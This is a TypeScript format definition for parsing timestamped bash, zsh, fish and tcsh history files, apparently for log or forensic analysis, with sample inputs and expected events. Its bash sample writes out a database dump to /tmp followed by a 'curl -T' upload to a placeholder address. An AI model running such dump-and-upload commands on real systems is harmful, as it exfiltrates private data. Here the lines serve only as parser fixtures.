import type { LineFormat } from '../format.ts';

export default {
  id: 'shell-history',
  version: 1,
  kind: 'lines',
  title: 'Shell history with times (bash, zsh, fish, tcsh)',
  source:
    'GNU Bash manual, HISTTIMEFORMAT; zshoptions(1), EXTENDED_HISTORY; fish documentation, history file; tcsh(1), history',
  specificity: 0.98,
  mappable: false,
  continued: 'message',
  rejectReason: 'A command before the first time: when it was typed is not stated.',
  layouts: [
    { layout: ': %{epoch}:%{seconds};%{message}', action: 'command' },
    { layout: '#%{epoch}', action: 'command' },
    { layout: '#+%{epoch}', action: 'command' },
    { layout: '- cmd: %{message}', action: 'command' },
    { layout: '  when: %{epoch}', place: 'within' },
    { layout: '  paths:', place: 'within' },
  ],
  uses: {
    epoch: { time: 'epoch' },
    seconds: { more: 'seconds', oneOf: Array.from({ length: 1000 }, (_, seconds) => String(seconds)) },
    message: { part: 'message' },
  },
  samples: [
    {
      title: 'bash, with a command of two lines',
      text: '#1750734667\nmysqldump shop > /tmp/a.sql\n#1750734668\nfor i in 1 2\ndo curl -T /tmp/a.sql 203.0.113.9; done\n',
      events: [
        { instant: '2025-06-24T03:11:07Z', message: 'mysqldump shop > /tmp/a.sql', eventAction: 'command' },
        { message: 'for i in 1 2\ndo curl -T /tmp/a.sql 203.0.113.9; done' },
      ],
    },
    {
      title: 'zsh, with how long a command took',
      text: ': 1750734667:0;whoami\n: 1750734669:12;tar czf /tmp/a.tgz \\\n/srv/shop\n',
      events: [{ message: 'whoami' }, { instant: '2025-06-24T03:11:09Z', message: 'tar czf /tmp/a.tgz \\\n/srv/shop' }],
    },
    {
      title: 'tcsh',
      text: '#+1750734667\nwhoami\n#+1750734668\nexit\n',
      events: [{ instant: '2025-06-24T03:11:07Z', message: 'whoami' }, { message: 'exit' }],
    },
    {
      title: 'fish',
      text: '- cmd: whoami\n  when: 1750734667\n- cmd: ls /srv\n  when: 1750734668\n  paths:\n    - /srv\n',
      events: [{ instant: '2025-06-24T03:11:07Z', message: 'whoami' }, { instant: '2025-06-24T03:11:08Z' }],
    },
  ],
} satisfies LineFormat;
